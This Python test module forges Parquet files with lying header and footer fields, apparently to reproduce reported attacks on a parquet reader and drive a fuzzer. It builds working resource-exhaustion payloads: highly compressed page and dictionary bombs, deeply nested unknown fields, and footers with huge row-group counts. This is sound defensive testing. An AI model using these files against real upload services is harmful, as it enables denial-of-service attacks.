"""Parquet files forged field by field (Thrift's compact protocol), so that any footer or page-header field can lie:
the attacks of issue 45 and the structure-aware fuzz of the parquet reader share them.

A forged file has the columns ``test_case_id`` (text), ``correct`` (a double) and ``note`` (text), all required, one
row a row group; ``note`` is where an attack lives. :func:`forged` takes the pages of ``note`` as :class:`Page`\\ s and
writes them once, every row group's column chunk pointing at them (``row_groups`` > 1: many row groups, one region).
"""

from __future__ import annotations

import struct
from dataclasses import dataclass, field

MiB = 1 << 20
# parquet.thrift's CompressionCodec
UNCOMPRESSED, SNAPPY, GZIP, LZO, BROTLI, LZ4_HADOOP, ZSTD, LZ4_RAW = range(8)
DATA_PAGE, INDEX_PAGE, DICTIONARY_PAGE, DATA_PAGE_V2 = range(4)
PLAIN, RLE_DICTIONARY = 0, 8
_TYPES = {"bool": 1, "i32": 5, "i64": 6, "bin": 8, "list": 9, "struct": 12}


def _uvarint(n: int) -> bytes:
    out = bytearray()
    n &= (1 << 64) - 1
    while n >= 0x80:
        out.append(n & 0x7F | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


def _zigzag(n: int) -> int:
    return (n << 1) ^ (n >> 63)


def thrift(fields: list[tuple]) -> bytes:
    """A compact-protocol struct of ``(field id, kind, value)`` in id order; kinds: bool, i32, i64, bin, struct (a list
    of fields), list (``(element kind, values)``), raw (bytes already encoded, kind given as ``("raw", type)``)."""
    out, last = bytearray(), 0
    for fid, kind, value in fields:
        if isinstance(kind, tuple):  # ("raw", type id)
            t = kind[1]
        else:
            t = (1 if value else 2) if kind == "bool" else _TYPES[kind]
        delta = fid - last
        out += bytes([delta << 4 | t]) if 0 < delta <= 15 else bytes([t]) + _uvarint(_zigzag(fid))
        last = fid
        if kind != "bool":
            out += value if isinstance(kind, tuple) else _value(kind, value)
    return bytes(out + b"\x00")


def _value(kind: str, value) -> bytes:
    if kind in ("i32", "i64"):
        return _uvarint(_zigzag(value))
    if kind == "bin":
        return _uvarint(len(value)) + value
    if kind == "struct":
        return thrift(value)
    element, items = value
    t = _TYPES[element]
    head = bytes([len(items) << 4 | t]) if len(items) < 15 else bytes([0xF0 | t]) + _uvarint(len(items))
    return head + b"".join(_value(element, v) for v in items)


def nested_unknown(depth: int, field_id: int = 30) -> tuple:
    """An unknown struct field nested ``depth`` deep (readers must skip what they do not know)."""
    inner: list = [(1, "i32", 7)]
    for _ in range(depth - 1):
        inner = [(1, "struct", inner)]
    return (field_id, "struct", inner)


@dataclass(frozen=True)
class Page:
    """One page of ``note``: its body as stored (already compressed), what its header declares, and extra fields."""

    body: bytes
    uncompressed: int
    kind: int = DATA_PAGE
    values: int = 1
    encoding: int = PLAIN
    extra: tuple = ()  # more header fields, e.g. nested_unknown(10)

    def header(self) -> bytes:
        fields: list = [(1, "i32", self.kind), (2, "i32", self.uncompressed), (3, "i32", len(self.body))]
        if self.kind == DATA_PAGE:
            fields.append((5, "struct", [(1, "i32", self.values), (2, "i32", self.encoding), (3, "i32", 3), (4, "i32", 3)]))
        elif self.kind == DICTIONARY_PAGE:
            fields.append((7, "struct", [(1, "i32", self.values), (2, "i32", PLAIN)]))
        elif self.kind == DATA_PAGE_V2:
            v2 = [(1, "i32", self.values), (2, "i32", 0), (3, "i32", self.values), (4, "i32", self.encoding)]
            fields.append((8, "struct", v2 + [(5, "i32", 0), (6, "i32", 0)]))
        return thrift(sorted([*fields, *self.extra], key=lambda f: f[0]))


@dataclass(frozen=True)
class Forged:
    """A forged file's ``note`` column: its pages and codec, and how many row groups point at them."""

    pages: tuple[Page, ...]
    codec: int = UNCOMPRESSED
    row_groups: int = 1
    chunk_size: int | None = None  # the column chunk's declared total_uncompressed_size (default: the pages' sum)
    data_offset_shift: int = 0  # added to the column chunk's data_page_offset (a lying offset)
    footer_extra: tuple = field(default=())  # more FileMetaData fields
    bare_groups: int = 0  # more row groups of one row and no column chunk (about 8 bytes of footer each)


def plain_text(value: bytes) -> bytes:
    return struct.pack("<I", len(value)) + value


def _column(name: bytes, physical: int, codec: int, pages_at: int, size: int, stored: int, dictionary_at: int | None) -> bytes:
    meta = [
        (1, "i32", physical),
        (2, "list", ("i32", [PLAIN, RLE_DICTIONARY])),
        (3, "list", ("bin", [name])),
        (4, "i32", codec),
        (5, "i64", 1),
        (6, "i64", size),
        (7, "i64", stored),
        (9, "i64", pages_at),
    ]
    if dictionary_at is not None:
        meta.append((11, "i64", dictionary_at))
    return thrift([(2, "i64", pages_at), (3, "struct", meta)])


def forged(spec: Forged) -> bytes:
    """The bytes of a parquet file with ``test_case_id`` ``t0``, ``correct`` 0.5 and ``spec``'s ``note``."""
    out = bytearray(b"PAR1")
    id_page = Page(plain_text(b"t0"), 6)
    id_at = len(out)
    out += id_page.header() + id_page.body
    metric_page = Page(struct.pack("<d", 0.5), 8)
    metric_at = len(out)
    out += metric_page.header() + metric_page.body
    note_at = len(out)
    first_data = note_at
    for page in spec.pages:
        if page.kind == DICTIONARY_PAGE and first_data == len(out):
            first_data = len(out) + len(page.header()) + len(page.body)
        out += page.header() + page.body
    stored = len(out) - note_at
    declared = spec.chunk_size if spec.chunk_size is not None else sum(p.uncompressed + len(p.header()) for p in spec.pages)
    dictionary_at = note_at if first_data != note_at else None
    columns = [
        _column(b"test_case_id", 6, UNCOMPRESSED, id_at, 6 + len(id_page.header()), metric_at - id_at, None),
        _column(b"correct", 5, UNCOMPRESSED, metric_at, 8 + len(metric_page.header()), note_at - metric_at, None),
        _column(b"note", 6, spec.codec, first_data + spec.data_offset_shift, declared, stored, dictionary_at),
    ]
    group = thrift([(1, ("raw", 9), bytes([0x3C]) + b"".join(columns)), (2, "i64", 64), (3, "i64", 1)])
    bare = thrift([(1, "list", ("struct", [])), (2, "i64", 64), (3, "i64", 1)])
    n = spec.row_groups + spec.bare_groups
    groups = (bytes([n << 4 | 12]) if n < 15 else bytes([0xFC]) + _uvarint(n)) + group * spec.row_groups + bare * spec.bare_groups
    string = [(10, "struct", [(1, "struct", [])])]  # LogicalType STRING
    schema = [
        [(4, "bin", b"schema"), (5, "i32", 3)],
        [(1, "i32", 6), (3, "i32", 0), (4, "bin", b"test_case_id"), (6, "i32", 0), *string],
        [(1, "i32", 5), (3, "i32", 0), (4, "bin", b"correct")],
        [(1, "i32", 6), (3, "i32", 0), (4, "bin", b"note"), (6, "i32", 0), *string],
    ]
    footer = thrift(
        sorted(
            [
                (1, "i32", 2),
                (2, "list", ("struct", schema)),
                (3, "i64", n),
                (4, ("raw", 9), groups),
                *spec.footer_extra,
            ],
            key=lambda f: f[0],
        )
    )
    out += footer + struct.pack("<I", len(footer)) + b"PAR1"
    return bytes(out)


# -- the attacks of issue 45 -------------------------------------------------------------------------------------------


def _zeros_text(size: int, chunk: int = MiB):
    """The PLAIN encoding of one text value filling ``size`` bytes (its 4-byte length, then zeros), in chunks."""
    first = struct.pack("<I", size - 4) + bytes(min(chunk, size) - 4)
    yield first
    left = size - len(first)
    while left > 0:
        yield bytes(min(chunk, left))
        left -= chunk


def compressed(codec: int, pieces) -> bytes:
    """``pieces`` (an iterable of bytes) compressed as a parquet page of ``codec``, streamed where the codec allows."""
    import zlib

    import pyarrow as pa

    if codec == GZIP:
        packer = zlib.compressobj(6, zlib.DEFLATED, 31)
        return b"".join(packer.compress(p) for p in pieces) + packer.flush()
    if codec == ZSTD:
        import zstandard

        packer = zstandard.ZstdCompressor(level=3).compressobj()
        return b"".join(packer.compress(p) for p in pieces) + packer.flush()
    if codec == BROTLI:
        sink = pa.BufferOutputStream()
        with pa.CompressedOutputStream(sink, "brotli") as stream:
            for p in pieces:
                stream.write(p)
        return sink.getvalue().to_pybytes()
    if codec == LZ4_HADOOP:  # blocks of (decompressed size, compressed size), big-endian, then a raw LZ4 block
        out, cache = [], {}
        for p in pieces:
            if p not in cache:
                cache[p] = pa.compress(p, codec="lz4_raw", asbytes=True) if len(cache) < 4 else None
            block = cache[p] if cache[p] is not None else pa.compress(p, codec="lz4_raw", asbytes=True)
            out.append(struct.pack(">II", len(p), len(block)) + block)
        return b"".join(out)
    data = b"".join(pieces)
    if codec == UNCOMPRESSED:
        return data
    names = {SNAPPY: "snappy", LZ4_RAW: "lz4_raw", LZO: "snappy"}  # LZO: any bytes (Arrow cannot read LZO)
    return pa.compress(data, codec=names[codec], asbytes=True)


def page_bomb(codec: int = ZSTD, size: int = 256 * MiB, pages: int = 2, depth: int = 10) -> bytes:
    """``pages`` pages of one ``size``-byte value each, highly compressed, each header carrying an unknown struct
    field ``depth`` deep (0: none); the footer declares the stored size (what Arrow allocates is the header's)."""
    body = compressed(codec, _zeros_text(size))
    extra = (nested_unknown(depth),) if depth else ()
    return forged(Forged(tuple(Page(body, size, extra=extra) for _ in range(pages)), codec=codec, chunk_size=len(body)))


def one_region(row_groups: int, region: int = MiB) -> bytes:
    """Every row group's ``note`` chunk points at one region of 7-byte page headers (index pages, skipped by readers),
    then a data page of one value: each row group walks the whole region again."""
    skipped = Page(b"", 0, kind=INDEX_PAGE)
    pages = (skipped,) * (region // len(skipped.header())) + (Page(plain_text(b"x"), 5),)
    return forged(Forged(pages, row_groups=row_groups))


def dictionary_bomb(codec: int = ZSTD, size: int = 200 * MiB, *, empty: bool = True) -> bytes:
    """A dictionary page of ``size`` bytes, highly compressed: ``size`` / 4 empty values (each its 4-byte zero length),
    or one value of zeros; one data page points at its first value. The footer declares the stored size."""
    values = (bytes(min(MiB, size - i)) for i in range(0, size, MiB)) if empty else _zeros_text(size)
    body = compressed(codec, values)
    dictionary = Page(body, size, kind=DICTIONARY_PAGE, values=size // 4 if empty else 1)
    index = Page(compressed(codec, [bytes([1, 2, 0])]), 3, encoding=RLE_DICTIONARY)
    return forged(Forged((dictionary, index), codec=codec, chunk_size=len(body)))


def many_row_groups(row_groups: int = 1_000_000) -> bytes:
    """A footer of ``row_groups`` row groups (the first over one tiny page, the others of no column chunk: 8 bytes of
    footer each)."""
    return forged(Forged((Page(plain_text(b"x"), 5),), bare_groups=row_groups - 1))


ATTACKS = {
    "nested unknown fields, zstd": (256 * MiB, lambda: page_bomb(ZSTD, 1536 * MiB)),
    "nested unknown fields, gzip": (MiB, lambda: page_bomb(GZIP, 128 * MiB)),
    "nested unknown fields, brotli": (MiB, lambda: page_bomb(BROTLI, 128 * MiB)),
    "LZ4 with Hadoop framing (codec 5)": (256 * MiB, lambda: dictionary_bomb(LZ4_HADOOP, 200 * MiB, empty=False)),
    "100 row groups on one region": (256 * MiB, lambda: one_region(100)),
    "dictionary page of empty values": (256 * MiB, dictionary_bomb),
    "a footer of 1M row groups": (32 * MiB, many_row_groups),
}
"""Each attack of issue 45 as it was reported: (the upload limit it was tried at, how to build it)."""
